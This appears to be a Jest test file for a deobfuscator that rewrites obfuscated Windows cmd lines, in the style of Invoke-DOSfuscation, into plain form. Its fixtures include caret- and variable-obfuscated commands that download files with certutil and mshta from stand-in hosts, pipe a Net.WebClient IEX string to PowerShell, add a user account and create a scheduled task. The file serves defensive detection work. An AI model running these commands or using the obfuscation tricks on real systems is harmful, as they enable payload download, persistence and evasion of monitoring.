import { describe, expect, it } from '@jest/globals';
import { rewritten } from '../scripts.test-helper.js';
import { cmd } from './cmd.js';

/** Written for this test, in the manner of Invoke-DOSfuscation (https://github.com/danielbohannon/Invoke-DOSfuscation); what comes out was read and checked line by line. */
const HIDDEN: readonly (readonly [script: string, plain: string])[] = [
  ['p^ow^er^shell -nop -enc AAAA', 'powershell -nop -enc AAAA'],
  ['cmd /c "p^o^w^e^r^s^h^e^l^l -c ^"whoami^""', 'powershell -c "whoami"'],
  ['cmd.exe /V:ON /C "set x=ca&&set y=lc&&!x!!y!"', 'set x=ca && set y=lc && calc'],
  ['cmd /c "set a=power&&set b=shell&&call %a%%b% -c whoami"', 'set a=power && set b=shell && powershell -c whoami'],
  ['%COMSPEC:~-7,3% /c whoami && p^owers^hell', 'whoami && powershell'],
  ['p"ow"ershell -c whoami', 'powershell -c whoami'],
  ['"w"h"o"a"m"i', 'whoami'],
  ['cmd /c "set x=pXowerXshell&&call echo %x:X=%"', 'set x=pXowerXshell && echo powershell'],
  ['c^m^d /v:^on /c "set q=imaohw&&for /L %j in (5,-1,0) do set r=!r!!q:~%j,1!&&if %j==0 call %r:~-6%"', 'set q=imaohw && whoami'],
  ['@echo off\nset a=p\nset b=ow\nset c=ershell\n%a%%b%%c% -c whoami', 'echo off\nset a=p\nset b=ow\nset c=ershell\npowershell -c whoami'],
  ['for %a in (c m d) do set z=!z!%a\ncall %z% /c ech^o.x', 'for %a in (c m d) do set z=!z!%a\necho.x'],
  ['for /f "tokens=2 delims=-" %a in ("xx-whoami-yy") do %a', 'whoami'],
  ['cmd,;/c,;wh^oam^i', 'whoami'],
  [',;,%coMSPec:~ -0, +27%,; ; ,/c who^a^mi', 'whoami'],
  ['FOR /F "delims=s\\ tokens=4" %a IN (\'set^|findstr PSM\')DO %a -c whoami', 'PowerShell -c whoami'],
  ['FOR /F "delims=\\ tokens=4" %a IN (\'echo C:\\Windows\\System32\\whoami.exe\')DO %a', 'whoami.exe'],
  ['cmd /c "echo IEX (New-Object Net.WebClient) | pow^ersh^ell -"', 'echo IEX (New-Object Net.WebClient) | powershell -'],
  ['w""hoami /all', 'whoami /all'],
  ['n^e^t u^s^e^r bob P@ss /add', 'net user bob P@ss /add'],
  ['cmd /c c^e^r^t^u^t^i^l -urlcache -f http://x.example/a a.exe', 'certutil -urlcache -f http://x.example/a a.exe'],
  ['(set a=who)&&(set b=ami)&&call %a%%b%', 'set a=who && set b=ami && whoami'],
  ['cmd /c "set "p=sh" && set "q=ell" && cmd /c power%p%%q%"', 'set "p=sh" && set "q=ell" && powershell'],
  ['cmd /v /c "set s=lcca&&set t=!s:~2,2!!s:~0,2!&&!t!"', 'set s=lcca && set t=calc && calc'],
  ['set x=^h^t^t^p&&call start %x%://a.example && w^h^o^ami', 'set x=http && start http://a.example && whoami'],
  ['mshta.e^x^e http://a.example/x.hta & r^e^g add HKCU\\x', 'mshta.exe http://a.example/x.hta & reg add HKCU\\x'],
  ['cmd /c start /b m"s"hta http://x.example', 'start /b mshta http://x.example'],
  ['for %i in (0 1 2) do @p^i^ng 10.0.0.%i', 'ping 10.0.0.0 & ping 10.0.0.1 & ping 10.0.0.2'],
  ['cmd /c "for %x in (who ami) do set c=!c!%x&&if %x==ami call %c%"', 'whoami'],
  ['if 1==1 (set k=calc) & set j=%k% & c^al^c', 'set k=calc & set j=calc & calc'],
  ['set alphabet=abcdefghijklmnopqrstuvwxyz\n%alphabet:~22,1%%alphabet:~7,1%%alphabet:~14,1%%alphabet:~0,1%%alphabet:~12,1%%alphabet:~8,1%', 'set alphabet=abcdefghijklmnopqrstuvwxyz\nwhoami'],
  ['cmd /s /c "wsc"ri"pt //b x.vbs"', 'wscript //b x.vbs'],
  ['set u=hxxp://x.example/a\nset v=%u:xx=tt%\ncmd /c curl %v%&&ce^rtu^til', 'set u=hxxp://x.example/a\nset v=http://x.example/a\ncurl http://x.example/a && certutil'],
  ['cmd.exe /c "cmd.exe /c "cmd.exe /c "w^h^o^a^m^i""', 'whoami'],
  ['rundll32 java^scr^ipt:"\\..\\mshtml,RunHTMLApplication "', 'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication "'],
  ['s^c^h^t^a^s^k^s /create /tn x /tr "c:\\a.exe"', 'schtasks /create /tn x /tr "c:\\a.exe"'],
  ['cmd /c "set o=echo off&&call %o:~0,4% hi&&pi^ng localhost"', 'set o=echo off && echo hi && ping localhost'],
];

describe('hidden cmd', () => {
  it.each(HIDDEN)('is written anew: %j', (script, plain) => {
    expect(rewritten(cmd, script)).toBe(plain);
    expect(rewritten(cmd, plain)).toBeNull();
  });
});
